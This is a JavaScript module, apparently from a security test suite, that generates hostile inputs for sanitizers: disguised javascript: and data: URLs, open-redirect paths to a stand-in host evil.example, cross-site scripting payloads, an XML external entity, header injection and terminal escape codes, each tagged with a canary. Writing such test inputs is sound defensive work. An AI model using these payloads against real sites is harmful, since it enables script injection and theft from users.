// What hostile writers put in: addresses that run, markup that runs, texts that break out of where they are put. Each is
// a function of its vector's number, which comes back by the canary (`__pwned(7)`) or by a request to `evil.example/7`.
//
// `open.example` is a host that a writer names in plain words: a link there is right. Nothing may lead to
// `evil.example`: it is only named where a browser must not look for a host (in scripts, in encoded paths).

/** @import { Dice } from "./dice.mjs" */

/** @param {number} n */
export const canary = (n) => `__pwned(${n})`;
/** @param {number} n */
export const evil = (n) => `//evil.example/${n}`;
/** @param {number} n a word that stands beside the vector and can be searched for */
export const marker = (n) => `zq${String(n).padStart(5, "0")}w`;

/** Nobody can type these, and files can hold them. */
export const ODD = {
  nul: "\0",
  start: "\x01",
  unit: "\x1f",
  escape: "\x1b",
  delete: "\x7f",
  csi: "\x9b",
  nbsp: "\xa0",
  bom: "\ufeff",
  zero: "\u200b",
  soft: "\xad",
  override: "\u202e",
  line: "\u2028",
  open: "\ufdd0",
  close: "\ufdd1",
  non: "\ufffe",
};

/**
 * @template T
 * @typedef {{ name: string, make: T }} Named
 */

/** Of characters in HTML; Markdown decodes them too. @type {Named<(text: string, die: Dice) => string>[]} */
export const references = [
  { name: "as typed", make: (text) => text },
  { name: "decimal", make: (text) => each(text, (code) => `&#${code};`) },
  { name: "hexadecimal", make: (text) => each(text, (code) => `&#x${code.toString(16)};`) },
  { name: "hexadecimal with zeros", make: (text) => each(text, (code) => `&#X${code.toString(16).toUpperCase().padStart(7, "0")};`) },
  { name: "without semicolons", make: (text) => each(text, (code) => `&#${String(code).padStart(7, "0")}`) },
  {
    name: "mixed",
    make: (text, die) => each(text, (code) => die.pick([String.fromCodePoint(code), `&#${code};`, `&#x${code.toString(16)};`])),
  },
  {
    name: "named",
    make: (text) =>
      text.replace(/[:()\t\n]/g, (one) => ({ ":": "&colon;", "(": "&lpar;", ")": "&rpar;", "\t": "&Tab;", "\n": "&NewLine;" })[one] ?? one),
  },
  {
    name: "twice",
    make: (text) => each(text, (code) => (/[a-z]/i.test(String.fromCodePoint(code)) ? String.fromCodePoint(code) : `&amp;#${code};`)),
  },
];

/** @param {string} text @param {(code: number) => string} make */
function each(text, make) {
  return [...text].map((one) => make(one.codePointAt(0) ?? 0)).join("");
}

/** @param {string} text */
const percent = (text) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");

/** Schemes, and what stands behind the colon. @type {Named<(n: number) => [scheme: string, rest: string]>[]} */
const SCHEMES = [
  { name: "javascript", make: (n) => ["javascript", canary(n)] },
  { name: "javascript with a host", make: (n) => ["javascript", `//evil.example/%0a${canary(n)}`] },
  { name: "javascript comment", make: (n) => ["javascript", `/*x*/${canary(n)}//`] },
  { name: "vbscript", make: (n) => ["vbscript", canary(n)] },
  { name: "data page", make: (n) => ["data", `text/html,%3Cscript%3E${canary(n)}%3C/script%3E`] },
  { name: "data page base64", make: (n) => ["data", `text/html;base64,${btoa(`<script>${canary(n)}</script>`)}`] },
  { name: "data drawing", make: (n) => ["data", `image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${canary(n)}'/%3E`] },
  {
    name: "data document",
    make: (n) => ["data", `application/xhtml+xml,%3Cscript%20xmlns='http://www.w3.org/1999/xhtml'%3E${canary(n)}%3C/script%3E`],
  },
  { name: "blob", make: (n) => ["blob", `https://help.example.com/${n}`] },
  { name: "view-source", make: (n) => ["view-source", `javascript:${canary(n)}`] },
  { name: "feed", make: (n) => ["feed", `javascript:${canary(n)}`] },
  { name: "jar", make: (n) => ["jar", `https://evil.example/${n}!/x.html`] },
  { name: "intent", make: (n) => ["intent", `//evil.example/${n}#Intent;scheme=x;end`] },
  { name: "program", make: (n) => ["ms-msdt", `/id PCWDiagnostic /param ${n}`] },
  { name: "search of the system", make: (n) => ["search-ms", `query=${n}&crumb=location:evil.example`] },
  { name: "file", make: (n) => ["file", `///etc/${n}`] },
  { name: "filesystem", make: (n) => ["filesystem", `https://evil.example/temporary/${n}`] },
  { name: "livescript", make: (n) => ["livescript", canary(n)] },
  { name: "unknown", make: (n) => ["x-attack", canary(n)] },
  { name: "about", make: (n) => ["about", `blank#${canary(n)}`] },
];

/** How the scheme hides. The first few are no disguise at all. @type {Named<(scheme: string, rest: string, die: Dice) => string>[]} */
const DISGUISES = [
  { name: "plain", make: (scheme, rest) => `${scheme}:${rest}` },
  {
    name: "case",
    make: (scheme, rest, die) => `${[...scheme].map((one) => (die.chance(0.5) ? one.toUpperCase() : one)).join("")}:${rest}`,
  },
  ...["\t", "\n", "\r", " ", ODD.start, ODD.unit, ODD.nul, ODD.bom, ODD.nbsp, ODD.zero, ODD.open, ODD.close].map((one) => ({
    name: `${code(one)} before`,
    make: (/** @type {string} */ scheme, /** @type {string} */ rest) => `${one}${scheme}:${rest}`,
  })),
  ...["\t", "\n", "\r", "\r\n", ODD.nul, ODD.zero, ODD.soft, ODD.open + ODD.close, `${ODD.open}0${ODD.close}`].map((one) => ({
    name: `${[...one].map(code).join(" ")} inside`,
    make: (/** @type {string} */ scheme, /** @type {string} */ rest, /** @type {Dice} */ die) => {
      const at = 1 + die.int(scheme.length - 1);
      return `${scheme.slice(0, at)}${one}${scheme.slice(at)}:${rest}`;
    },
  })),
  ...["\t", "\n", ODD.zero, ODD.open + ODD.close].map((one) => ({
    name: `${[...one].map(code).join(" ")} before the colon`,
    make: (/** @type {string} */ scheme, /** @type {string} */ rest) => `${scheme}${one}:${rest}`,
  })),
  { name: "percent colon", make: (scheme, rest) => `${scheme}%3a${rest}` },
  { name: "percent COLON", make: (scheme, rest) => `${scheme}%3A${rest}` },
  { name: "percent twice", make: (scheme, rest) => `${scheme}%253a${rest}` },
  { name: "percent letter", make: (scheme, rest) => `${percent(scheme.slice(0, 1))}${scheme.slice(1)}:${rest}` },
  { name: "percent all", make: (scheme, rest) => percent(`${scheme}:${rest}`) },
  { name: "percent tab", make: (scheme, rest) => `%09${scheme}%3a${rest}` },
  { name: "percent break", make: (scheme, rest) => `${scheme}%0a%3a${rest}` },
  { name: "below here", make: (scheme, rest) => `./${scheme}:${rest}` },
  { name: "percent below here", make: (scheme, rest) => `./${scheme}%3a${rest}` },
  { name: "below and up", make: (scheme, rest) => `x/../${scheme}:${rest}` },
  { name: "percent up", make: (scheme, rest) => `%2e%2e/%2e/${scheme}%3a${rest}` },
  { name: "behind http", make: (scheme, rest) => `http:${scheme}:${rest}` },
  { name: "wide colon", make: (scheme, rest) => `${scheme}：${rest}` },
  { name: "colon twice", make: (scheme, rest) => `${scheme}::${rest}` },
  { name: "a query", make: (scheme, rest) => `?${scheme}:${rest}` },
  { name: "an anchor", make: (scheme, rest) => `#${scheme}:${rest}` },
];

/** @param {string} one */
function code(one) {
  return `U+${(one.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, "0")}`;
}

/** Paths that must stay paths, and hosts that a policy or a parser may misread. @type {Named<(n: number) => string>[]} */
const PLACES = [
  { name: "slashes in percent", make: (n) => `%2f%2fevil.example%2f${n}` },
  { name: "slash in percent", make: (n) => `/%2fevil.example/${n}` },
  { name: "backslashes in percent", make: (n) => `%5c%5cevil.example%5c${n}` },
  { name: "https colon in percent", make: (n) => `https%3a//evil.example/${n}` },
  { name: "https in percent", make: (n) => `https%3a%2f%2fevil.example%2f${n}` },
  { name: "up and out", make: (n) => `..%2f..%2f..%2f..%2f%2fevil.example/${n}` },
  { name: "dots and slashes", make: (n) => `/.%2f%2fevil.example/${n}` },
  { name: "percent tab and slashes", make: (n) => `/%09/evil.example/${n}` },
  { name: "backslashes", make: (n) => `\\\\open.example\\${n}` },
  { name: "slash and backslash", make: (n) => `/\\open.example/${n}` },
  { name: "tab between slashes", make: (n) => `/\t/open.example/${n}` },
  { name: "three slashes", make: (n) => `///open.example/${n}` },
  { name: "no slashes", make: (n) => `https:open.example/${n}` },
  { name: "a name before the host", make: (n) => `https://help.example.com@open.example/${n}` },
  { name: "no host", make: () => "https://" },
  { name: "a host to fill in", make: (n) => `https://[your-server]/${n}` },
  { name: "a port to fill in", make: (n) => `https://open.example:PORT/${n}` },
  { name: "a space in the host", make: (n) => `https://open example/${n}` },
  { name: "a bracket in the host", make: (n) => `https://open<example/${n}` },
  { name: "a percent in the host", make: (n) => `https://%00open.example/${n}` },
  { name: "half a percent", make: (n) => `%zz%e0%a4${n}` },
  { name: "semicolon in the host", make: (n) => `https://a${n};script-src-elem/x.png` },
  { name: "comma in the host", make: (n) => `https://a${n},sandbox/x.png` },
  { name: "quote in the host", make: (n) => `https://a${n}'unsafe-inline'/x.png` },
  { name: "star in the host", make: (n) => `https://*/${n}.png` },
  { name: "star of a host", make: (n) => `https://*.open.example/${n}.png` },
  { name: "keyword as host", make: (n) => `https://'self'/${n}.png` },
  { name: "a long host", make: (n) => `https://${"a".repeat(64)}.open.example/${n}.png` },
  { name: "letters of two scripts", make: (n) => `https://оpen.example/${n}.png` },
  { name: "quotes in the path", make: (n) => `https://open.example/"onmouseover=${canary(n)}"/x.png` },
  { name: "brackets in the path", make: (n) => `/x"><img/src=x/onerror=${canary(n)}>` },
];

/**
 * An address that must not be followed as it is, for a place that takes one.
 * @typedef {{ name: string, text: string }} Address
 */

/** Pairs of a scheme and a disguise, or a place. @param {Dice} die @param {number} count @returns {((n: number) => Address)[]} */
export function addresses(die, count) {
  /** @type {((n: number) => Address)[]} */
  const all = [];
  let disguises = die.shuffled(DISGUISES);
  let places = die.shuffled(PLACES);
  while (all.length < count) {
    if (!disguises.length) disguises = die.shuffled(DISGUISES);
    if (!places.length) places = die.shuffled(PLACES);
    if (die.chance(0.25)) {
      const place = /** @type {Named<(n: number) => string>} */ (places.pop());
      all.push((n) => ({ name: place.name, text: place.make(n) }));
      continue;
    }
    const disguise = /** @type {typeof DISGUISES[number]} */ (disguises.pop());
    // Half of all is what runs in every browser.
    const scheme = die.chance(0.5) ? /** @type {typeof SCHEMES[number]} */ (SCHEMES[die.int(3)]) : die.pick(SCHEMES);
    all.push((n) => ({ name: `${scheme.name}, ${disguise.name}`, text: disguise.make(...scheme.make(n), die) }));
  }
  return all;
}

/** Texts for places that hold plain text: names, titles, words, values. @type {Named<(n: number) => string>[]} */
export const TEXTS = [
  { name: "a tag", make: (n) => `<img src=x onerror=${canary(n)}>` },
  { name: "a tag behind quotes", make: (n) => `"><img src=x onerror=${canary(n)}>` },
  { name: "a tag behind single quotes", make: (n) => `'><svg onload=${canary(n)}>` },
  { name: "a script", make: (n) => `<script>${canary(n)}</script>` },
  { name: "the end of a title", make: (n) => `</title><script>${canary(n)}</script>` },
  { name: "the end of a script", make: (n) => `</script><script>${canary(n)}</script>` },
  { name: "the end of a style", make: (n) => `</style></textarea></noscript><img src=x onerror=${canary(n)}>` },
  { name: "the end of a comment", make: (n) => `--><img src=x onerror=${canary(n)}><!--` },
  { name: "the end of CDATA", make: (n) => `]]><img src=x onerror=${canary(n)}>` },
  { name: "an attribute", make: (n) => `" onmouseover="${canary(n)}" x="` },
  { name: "an attribute in single quotes", make: (n) => `' autofocus onfocus='${canary(n)}' x='` },
  { name: "an attribute without quotes", make: (n) => ` onmouseover=${canary(n)} ` },
  { name: "back quotes", make: (n) => `\`onmouseover=${canary(n)}` },
  { name: "references", make: (n) => `&lt;img src=x onerror=${canary(n)}&gt;` },
  { name: "numbered references", make: (n) => `&#60;img src=x onerror=${canary(n)}&#62;` },
  { name: "references without semicolons", make: (n) => `&ltimg src=x onerror=${canary(n)}&gt` },
  { name: "references twice", make: (n) => `&amp;lt;img src=x onerror=${canary(n)}&amp;gt;` },
  { name: "quotes as references", make: (n) => `&quot; onmouseover=&quot;${canary(n)}&quot; x=&quot;` },
  { name: "escapes of JavaScript", make: (n) => `\\u003cimg src=x onerror=${canary(n)}\\u003e` },
  { name: "percent", make: (n) => `%3Cimg%20src=x%20onerror=${canary(n)}%3E` },
  { name: "wide brackets", make: (n) => `＜img src=x onerror=${canary(n)}＞` },
  { name: "a template", make: (n) => `{{ "<img src=x onerror=${canary(n)}>" | safe }}` },
  { name: "a block of a template", make: (n) => `{% raw %}<img src=x onerror=${canary(n)}>{% endraw %}` },
  { name: "a pattern of replacement", make: (n) => `$&$'$\`$<n><img src=x onerror=${canary(n)}>` },
  { name: "braces", make: (n) => `{n}{ $n }{{n}}<img src=x onerror=${canary(n)}>` },
  { name: "a mark", make: (n) => `<mark></mark><mark><img src=x onerror=${canary(n)}></mark>` },
  { name: "isolates", make: (n) => `</bdi></a></li><img src=x onerror=${canary(n)}>` },
  { name: "a hole", make: (n) => `${ODD.open}0${ODD.close} onmouseover=${canary(n)} ` },
  { name: "a hole in references", make: (n) => `&#xFDD0;0&#xFDD1; onmouseover=${canary(n)} ` },
  { name: "an address", make: (n) => `javascript:${canary(n)}` },
  { name: "a link of Markdown", make: (n) => `[text](javascript:${canary(n)})` },
  { name: "a picture of Markdown", make: (n) => `![x](x"onerror="${canary(n)})` },
  { name: "a break", make: (n) => `text\n<img src=x onerror=${canary(n)}>` },
  { name: "a break and a rule", make: (n) => `text\r\n/* ${evil(n)} 301\r\n  Content-Security-Policy: script-src *` },
  { name: "a separator of lines", make: (n) => `text${ODD.line}<img src=x onerror=${canary(n)}>` },
  { name: "NUL", make: (n) => `<${ODD.nul}img src=x onerror=${canary(n)}>` },
  { name: "a reversed tag", make: (n) => `${ODD.override}<img src=x onerror=${canary(n)}>` },
  { name: "JSON", make: (n) => `","x":"<img src=x onerror=${canary(n)}>","y":"` },
  { name: "the prototype", make: (n) => `__proto__ constructor <img src=x onerror=${canary(n)}>` },
  { name: "an entity of XML", make: (n) => `&xxe;%xxe;<!ENTITY x SYSTEM "${evil(n)}">` },
  { name: "an element of XML", make: (n) => `</title><link xmlns="http://www.w3.org/1999/xhtml" href="${evil(n)}"/><title>` },
];

/** Control characters for terminals and for machines' formats. @type {Named<(n: number) => string>[]} */
export const CONTROLS = [
  { name: "a title of the terminal", make: (n) => `${ODD.escape}]0;${marker(n)}\x07` },
  { name: "a clear screen", make: () => `${ODD.escape}[2J${ODD.escape}[H` },
  { name: "a colour", make: () => `${ODD.escape}[31merror` },
  { name: "C1", make: () => `${ODD.csi}31m` },
  { name: "a link of the terminal", make: (n) => `${ODD.escape}]8;;https://open.example/${n}${ODD.escape}\\text` },
  { name: "backspaces", make: () => "text\b\b\b\b" },
  { name: "a carriage return", make: () => "text\rover it" },
  { name: "NUL", make: () => `text${ODD.nul}text` },
  { name: "DEL", make: () => `text${ODD.delete}` },
  { name: "next line", make: () => "text\x85text" },
  { name: "shift out", make: () => "\x0etext\x0f" },
  { name: "noncharacters", make: () => `${ODD.non}\uffff` },
  { name: "form feed", make: () => "text\ftext\v" },
];
